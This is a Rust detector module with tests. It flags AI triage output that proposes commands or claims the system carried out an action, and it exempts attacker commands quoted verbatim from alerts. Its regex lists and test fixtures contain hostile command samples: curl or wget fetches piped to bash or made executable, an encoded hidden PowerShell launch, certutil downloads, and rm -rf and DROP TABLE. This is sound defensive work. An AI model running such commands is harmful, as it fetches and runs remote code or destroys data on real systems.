//! Direct-execution detection: the model may propose, never run.
//!
//! Three signals: keys that ask for or report execution, commands in free text, and wording
//! that the system did or will carry out an action. A command the attacker ran, copied
//! verbatim from the alert, is evidence rather than a proposal, so text found in the
//! request's alerts is not flagged (and `evidence[].quote` is exempt: it must match its
//! source verbatim anyway).

use std::sync::LazyLock;

use regex::{Regex, RegexSet};
use serde_json::Value;

use crate::corpus::fold_whitespace;

/// One finding, with where it was found.
#[derive(Debug, Clone, PartialEq)]
pub struct Finding {
    pub path: String,
    pub detail: String,
}

static EXEC_KEY: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)^(execute|execution|exec|execute_now|auto_?execute|executed|command|commands|cmd|cmdline|script|scripts|run|run_?command|runnable|shell|shell_?command|powershell|payload|api_call|http_request|remediation_script|playbook_run)$",
    )
});
static EXEC_STATUS: LazyLock<Regex> = LazyLock::new(|| re(r"(?i)^(executed|executing|running|ran|done|completed|applied|performed|in_progress|succeeded)$"));

/// `(label, pattern)`: command shapes in free text.
static COMMANDS: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
    [
        ("code block", r"```"),
        ("shell command", r"(?i)\b(?:sudo\s+\S+|(?:ba|z|da)?sh\s+-c\s|rm\s+-[rf]{1,2}\s|chmod\s+[+0-7]|chown\s+\S+|kill\s+-\d|pkill\s+\S|systemctl\s+(?:stop|disable|start|restart|mask)\s|iptables\s+-[AIDF]|ufw\s+(?:deny|allow)\s|userdel\s|usermod\s+-|passwd\s+-|crontab\s+-[re])"),
        ("piped shell", r"\|\s*(?:sudo\s+)?(?:ba)?sh\b"),
        ("PowerShell cmdlet", r#"\b(?:(?:Invoke-(?:Expression|Command|Item)|Stop-(?:Process|Service|Computer)|Remove-(?:Item|ADUser|MailboxRule|InboxRule|AzureADUser|MgUser)|Disable-(?:ADAccount|LocalUser|NetAdapter|AzureADUser)|Set-(?:ADUser|MpPreference|ExecutionPolicy|Mailbox|InboxRule|NetFirewallProfile)|New-(?:NetFirewallRule|Object\s+Net\.WebClient)|Start-Process|Revoke-(?:AzureADUserAllRefreshToken|MgUserSignInSession)|Restart-Computer)\s+(?:-\w|['"$(]|\w)|\bIEX\s*[($])"#),
        ("PowerShell invocation", r"(?i)\bpowershell(?:\.exe)?\s+-(?:e|ec|enc|encodedcommand|c|command|nop|noprofile|w|windowstyle|ep|executionpolicy)\b"),
        ("cmd command", r"(?i)\b(?:cmd(?:\.exe)?\s+/[ck]\s|net\s+(?:user|group|localgroup|stop|use)\s+\S|taskkill\s+/|sc(?:\.exe)?\s+(?:stop|delete|config|create)\s|reg(?:\.exe)?\s+(?:add|delete)\s|wmic\s+\S|schtasks\s+/(?:create|delete|change|run)|netsh\s+\S|vssadmin\s+\S|bcdedit\s+/|certutil\s+-)"),
        ("cloud CLI", r"\b(?:aws\s+(?:iam|s3|s3api|ec2|sts|lambda|kms|secretsmanager|organizations|cloudtrail|configure|ssm|rds|eks|logs|guardduty|ecr|ecs|route53|dynamodb|sso|sso-admin|identitystore|cloudformation)\s+[a-z0-9-]+|az\s+(?:ad|vm|role|account|keyvault|storage|group|login|network|aks)\s+[a-z]+|gcloud\s+(?:beta\s+|alpha\s+)?[a-z-]+\s+[a-z-]+|gsutil\s+[a-z]+|kubectl\s+[a-z][a-z-]+|terraform\s+(?:apply|destroy|import)|gh\s+(?:api|auth|repo|secret)\s+\S)"),
        ("HTTP call", r"(?i)\b(?:curl|wget)(?:\.exe)?\s+(?:-{1,2}[A-Za-z]|https?://|\S+\.\S+/)|\bInvoke-(?:WebRequest|RestMethod)\s+(?:-\w|https?://|\S+\.\S+/)|\b(?:GET|POST|PUT|DELETE|PATCH)\s+(?:https?://|/api/|/v\d/)\S*"),
        ("SQL statement", r"\b(?:DROP\s+(?:TABLE|DATABASE|USER|SCHEMA)|DELETE\s+FROM\s+\w|UPDATE\s+\w+\s+SET\s|INSERT\s+INTO\s+\w|TRUNCATE\s+TABLE|ALTER\s+(?:TABLE|USER|ROLE)\s|GRANT\s+\w+\s+ON\s|REVOKE\s+\w+\s+ON\s)|(?i:\bdrop\s+table\s+\w|\bdelete\s+from\s+\w+\s+where\b)"),
    ]
    .into_iter()
    .map(|(label, pattern)| (label, re(pattern)))
    .collect()
});

/// `(label, pattern)`: wording that the system did or will act.
static WORDING: LazyLock<Vec<(&'static str, Regex)>> = LazyLock::new(|| {
    const VERBS: &str = r"(?:isolat|disabl|revok|rotat|block|kill|quarantin|delet|execut|contain|remov|reset|terminat|shut|wip|suspend|lock|deactivat|purg|ban|launch|trigger|appl|run|ran\b|push|deploy|initiat)";
    [
        ("the system acting", format!(r"(?i)\b(?:i|we|triage|the system|this system|the service|this service|the assistant|this assistant|the platform|automation|the soar)\s+(?:have|has|had|will|shall|am|are|is|'ve|'ll|already|just|now)\s+(?:now\s+|already\s+|just\s+|also\s+|automatically\s+|immediately\s+|gone\s+ahead\s+and\s+|proceeded\s+to\s+|taken\s+(?:the\s+)?(?:liberty|step)\s+(?:of|to)\s+)*(?:be(?:en)?\s+|be\s+)?{VERBS}\w*")),
        ("first person acting", format!(r"(?i)\b(?:i|we)\s+(?:{VERBS}\w*ed|{VERBS}\w*)\s+(?:the|this|that|host|account|key|token|user|it|them)\b")),
        ("passive with the system as agent", format!(r"(?i)\b(?:has|have|was|were|will\s+be|is\s+being|are\s+being)\s+(?:been\s+)?(?:automatically\s+|now\s+|already\s+)?{VERBS}\w*\s+by\s+(?:triage|the system|this system|the service|this service|automation|the automation|the automated response|automated response|the playbook|the soar|the assistant|me|us)\b")),
        ("automatic action", format!(r"(?i)\b(?:automatically|auto-?)\s*{VERBS}\w*")),
        ("in progress", format!(r"(?i)\b(?:is|are)\s+(?:being|now\s+being)\s+{VERBS}\w*\s+(?:now|right now|automatically|as we speak|by\s+(?:the\s+)?(?:automat\w+|soar|playbook|triage|system))")),
        ("executing now", r"(?i)\b(?:executing|running|initiating|performing|carrying out|applying|deploying)\s+(?:the\s+|a\s+|this\s+)?(?:containment|isolation|remediation|command|script|playbook|action|fix|block|quarantine)s?\b(?:\s+\w+){0,3}\s+(?:now|immediately|right away)\b".to_string()),
        ("execution status", r"(?i)\bstatus\s*[:=]\s*(?:executed|completed|done|applied)\b|\b(?:action|containment|remediation|command)\s+(?:was\s+|has\s+been\s+)?(?:executed|carried out|completed successfully)\b".to_string()),
    ]
    .into_iter()
    .map(|(label, pattern)| (label, re(&pattern)))
    .collect()
});

/// Every pattern of [`COMMANDS`] then [`WORDING`] in one set: most text matches none, and
/// one pass says so (or which to look at) where sixteen searches did.
static ANY: LazyLock<RegexSet> = LazyLock::new(|| {
    let patterns = COMMANDS.iter().chain(WORDING.iter()).map(|(_, r)| r.as_str());
    RegexSet::new(patterns).unwrap_or_else(|e| panic_set(&e))
});

#[allow(clippy::panic)]
fn panic_set(e: &regex::Error) -> RegexSet {
    panic!("invalid built-in pattern set: {e}")
}

fn re(pattern: &str) -> Regex {
    // The patterns are constants checked by the tests below; an invalid one must fail loudly there.
    Regex::new(pattern).unwrap_or_else(|e| unreachable_pattern(pattern, &e))
}

#[allow(clippy::panic)]
fn unreachable_pattern(pattern: &str, e: &regex::Error) -> Regex {
    panic!("invalid built-in pattern {pattern}: {e}")
}

/// Keys anywhere in the raw output that ask for or report execution.
pub fn scan_keys(value: &Value) -> Vec<Finding> {
    let mut out = Vec::new();
    walk_keys(value, "", &mut out);
    out
}

fn walk_keys(value: &Value, path: &str, out: &mut Vec<Finding>) {
    match value {
        Value::Object(o) => {
            for (k, v) in o {
                let p = if path.is_empty() { k.clone() } else { format!("{path}.{k}") };
                if EXEC_KEY.is_match(k) {
                    out.push(Finding { path: p.clone(), detail: format!("key `{k}` asks for or reports execution") });
                } else if k.eq_ignore_ascii_case("status") && v.as_str().is_some_and(|s| EXEC_STATUS.is_match(s.trim())) {
                    out.push(Finding { path: p.clone(), detail: format!("`status: {}` reports an execution", v.as_str().unwrap_or_default()) });
                }
                walk_keys(v, &p, out);
            }
        }
        Value::Array(a) => {
            for (i, v) in a.iter().enumerate() {
                walk_keys(v, &format!("{path}[{i}]"), out);
            }
        }
        _ => {}
    }
}

/// Commands and execution wording in one free-text field. `alert_text` is the folded text
/// of every alert in the request: commands found there are the attacker's, not proposals.
pub fn scan_text(path: &str, text: &str, alert_text: &str) -> Vec<Finding> {
    let mut out = Vec::new();
    let matched = ANY.matches(text);
    if !matched.matched_any() {
        return out;
    }
    let (commands, wording) = (COMMANDS.iter().enumerate(), WORDING.iter().enumerate().map(|(i, p)| (i + COMMANDS.len(), p)));
    for (_, (label, pattern)) in commands.filter(|(i, _)| matched.matched(*i)) {
        for m in pattern.find_iter(text) {
            if !is_quoted_from_alerts(text, m.start(), m.end(), alert_text) {
                out.push(Finding { path: path.to_string(), detail: format!("{label}: `{}`", snippet(text, m.start(), m.end())) });
                break;
            }
        }
    }
    for (_, (label, pattern)) in wording.filter(|(i, _)| matched.matched(*i)) {
        if let Some(m) = pattern.find_iter(text).find(|m| !is_quoted_from_alerts(text, m.start(), m.end(), alert_text)) {
            out.push(Finding { path: path.to_string(), detail: format!("{label}: `{}`", snippet(text, m.start(), m.end())) });
        }
    }
    out
}

/// A command counts as a quote of the alerts when the command as written — the matched
/// words and the arguments that follow them — appears verbatim in the alerts. A model
/// that composes new arguments (another URL, another flag, another table) is proposing.
fn is_quoted_from_alerts(text: &str, start: usize, end: usize, alert_text: &str) -> bool {
    if alert_text.is_empty() {
        return false;
    }
    let quote_like = |c: char| matches!(c, '`' | '"' | '\'' | '“' | '”');
    let word_char = |c: char| !c.is_whitespace() && !quote_like(c);
    let end = start + text[start..end].trim_end().len();
    // Widen the match to whole words, without the quotes or backticks around it.
    let start = text[..start].char_indices().rev().find(|(_, c)| !word_char(*c)).map(|(i, c)| i + c.len_utf8()).unwrap_or(0);
    let end = end + text[end..].find(|c: char| !word_char(c)).unwrap_or(text.len() - end);
    let mut span = fold_whitespace(&text[start..end]);
    // Then take the arguments that follow, up to the first plain word of prose.
    for token in text[end..].split(|c: char| c == '\n' || quote_like(c)).next().unwrap_or("").split_whitespace() {
        let prose = token.trim_end_matches([',', '.', ';', ':', ')']).chars().all(char::is_alphabetic);
        if prose {
            break;
        }
        span.push(' ');
        span.push_str(token);
    }
    // A match can run into the quote that closes it (`"Non sudo setuid" from …`).
    let span = span.trim_matches(|c: char| quote_like(c) || matches!(c, ',' | '.' | ';' | ':')).to_ascii_lowercase();
    alert_text.to_ascii_lowercase().contains(&span)
}

fn snippet(text: &str, start: usize, end: usize) -> String {
    let mut s: String = text[start..end].chars().take(80).collect();
    if end - start > 80 {
        s.push('…');
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const ALERT: &str = "powershell.exe -NoP -W Hidden -enc SQBFAFgA curl -s http://198.51.100.7/x.sh | bash";

    #[test]
    fn every_pattern_compiles() {
        assert!(!COMMANDS.is_empty() && !WORDING.is_empty());
        assert!(EXEC_KEY.is_match("execute"));
    }

    #[test]
    fn flags_keys_and_status() {
        assert_eq!(scan_keys(&json!({"a": [{"command": "x"}]}))[0].path, "a[0].command");
        assert_eq!(scan_keys(&json!({"proposed_actions": [{"status": "executed"}]})).len(), 1);
        assert!(scan_keys(&json!({"status": "pending"})).is_empty());
    }

    #[test]
    fn flags_new_commands_but_not_attacker_quotes() {
        for bad in [
            "Run `aws iam delete-access-key --access-key-id X` now",
            "Contain with kubectl delete pod web-1 -n prod",
            "Use Stop-Process -Name evil to stop it",
            "curl -X POST https://soar.local/api/isolate",
            "Then DROP TABLE users; to be safe",
            "```\nrm -rf /tmp/x\n```",
        ] {
            assert!(!scan_text("summary", bad, ALERT).is_empty(), "{bad}");
        }
        for ok in [
            "The attacker ran curl -s http://198.51.100.7/x.sh | bash on web-03.",
            "Word spawned powershell.exe -NoP -W Hidden -enc SQBFAFgA, a classic macro chain.",
            "Recommend isolating WS-042 pending approval; look for other hosts with encoded PowerShell.",
            "Analysts should review CloudTrail for further CreateAccessKey calls by this identity.",
        ] {
            assert!(scan_text("hypothesis", ok, ALERT).is_empty(), "{ok}: {:?}", scan_text("h", ok, ALERT));
        }
    }

    #[test]
    fn a_quoted_rule_name_is_not_a_proposal() {
        let alerts = "Non sudo setuid Detect attempts to change users through setuid";
        assert!(scan_text("hypothesis", "\"Non sudo setuid\" from falco matches a runbook.", alerts).is_empty());
        assert!(!scan_text("hypothesis", "Run sudo setuid 0 on the host.", alerts).is_empty());
    }

    #[test]
    fn flags_execution_wording() {
        for bad in [
            "I have isolated WS-042.",
            "The host has been isolated by triage.",
            "Triage will automatically disable the account.",
            "We have revoked the key.",
            "Executing containment now.",
            "The account was automatically disabled",
        ] {
            assert!(!scan_text("summary", bad, ALERT).is_empty(), "{bad}");
        }
        for ok in ["The key should be revoked after approval.", "An approver may isolate the host.", "Previously the account was disabled by the IAM team."] {
            assert!(scan_text("summary", ok, ALERT).is_empty(), "{ok}");
        }
    }

    /// Phrasings written apart from the guardrail corpus, so the rules are not only tuned
    /// to the text they were developed on.
    #[test]
    fn held_out_phrasings() {
        let alert = "wget -q http://198.51.100.7/m -O /tmp/m; chmod +x /tmp/m; certutil -urlcache -f http://203.0.113.4/a.exe a.exe";
        for bad in [
            "Next step: `gcloud iam service-accounts keys delete 1234 --iam-account=x@p.iam.gserviceaccount.com`",
            "az ad user update --id bob@corp.example --account-enabled false",
            "Please invoke Disable-ADAccount -Identity jdoe before the weekend.",
            "schtasks /delete /tn Updater /f on the host",
            "Block via iptables -A INPUT -s 203.0.113.9 -j DROP",
            "We will now disable the service account.",
            "The playbook is being run automatically.",
            "Send DELETE https://graph.microsoft.com/v1.0/users/jdoe to remove the user.",
            "Fetch the sample again with wget -q http://198.51.100.99/m -O /tmp/m2",
        ] {
            assert!(!scan_text("summary", bad, alert).is_empty(), "{bad}");
        }
        for ok in [
            "The dropper ran wget -q http://198.51.100.7/m -O /tmp/m and then made it executable.",
            "Look for other invocations of certutil across the fleet.",
            "If approved, a SOAR would isolate WS-042.",
            "Rotate the key after approval; confirm with the owner first.",
            "The key was created with aws-cli/2.15.0 from 203.0.113.50.",
            "The account was disabled by the IAM team last year, then re-enabled.",
            "certutil -urlcache -f http://203.0.113.4/a.exe is the classic LOLBin download seen here.",
        ] {
            assert!(scan_text("hypothesis", ok, alert).is_empty(), "{ok}: {:?}", scan_text("h", ok, alert));
        }
    }
}
